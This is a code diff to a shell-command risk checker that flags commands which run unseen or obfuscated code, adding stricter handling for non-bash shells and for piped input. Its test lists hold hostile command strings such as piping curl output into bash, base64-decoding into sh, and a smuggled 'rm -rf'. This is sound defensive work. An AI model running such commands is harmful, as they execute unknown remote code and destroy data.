@@ -27,10 +27,19 @@ function runFile(inv: Invocation, ctx: RuleContext): void {
   else ctx.report({ risk: "unknown", why: "runs a script file whose content is not seen here" });
 }
 
+/** In a plain sh `[[ a > f ]]` and `((a > f))` write a file, and `$'\''` ends at another quote. */
+const otherwiseInSh: readonly string[] = ["[[", "((", "<<<", "$'"];
+
+function runText(inv: Invocation, text: Arg, ctx: RuleContext): void {
+  ctx.scanText(text);
+  const strict = inv.program !== "bash" && otherwiseInSh.some((word) => text.text.replaceAll("$((", "").includes(word));
+  if (strict) ctx.report({ risk: "unknown", why: "this shell may read it otherwise than bash does; use bash -c", span: text.span });
+}
+
 function runShell(inv: Invocation, ctx: RuleContext): void {
   const text = inv.operands[0];
   if (inv.has("--version") || inv.has("--help")) return;
-  if (inv.has("-c") && text !== undefined) ctx.scanText(text);
+  if (inv.has("-c") && text !== undefined) runText(inv, text, ctx);
   else if (inv.has("-c")) ctx.report({ risk: "unknown", why: "a shell without its command" });
   else if (text === undefined || inv.has("-s")) runInput(inv, ctx);
   else runFile(inv, ctx);
@@ -61,7 +70,15 @@ export const shell = program({
     "bash <<< 'ls'": "caution",
     "bash ./fix.sh": "unknown",
   },
-  nearMisses: ["bash -c '$0 -rf x' rm", 'bash -c "$CMD"', "bash <(curl -s http://x)", "bash", "echo bHM= | base64 -d | sh", "bash -c"],
+  nearMisses: [
+    "bash -c '$0 -rf x' rm",
+    'bash -c "$CMD"',
+    "bash <(curl -s http://x)",
+    "bash",
+    "echo bHM= | base64 -d | sh",
+    "sh -c '[[ a > /tmp/x ]]'",
+    "bash -c",
+  ],
 });
 
 /** Shells with a grammar of their own are believed only where no grammar is involved. */
@@ -189,7 +206,9 @@ function readsProgram(inv: Invocation): boolean {
 
 /** A program text, or input, for a language that is not parsed here. */
 function runLanguage(inv: Invocation, ctx: RuleContext): void {
-  if (inv.operands.length === 0 && inv.options.length > 0 && inv.options.every((use) => use.spec.arity === "flag")) return;
+  // With input, some of them read it as a program whatever the option says.
+  const asksVersion = inv.operands.length === 0 && inv.options.length > 0 && inv.options.every((use) => use.spec.arity === "flag");
+  if (asksVersion && inv.stdin.kind === "none") return;
   if (isMadeOnTheFly(inv.operands[0]) || (inv.stdin.kind === "data" && readsProgram(inv))) {
     ctx.report({ risk: "dangerous", why: "runs whatever it is fed as a program", safer: "look at the text first" });
     return;
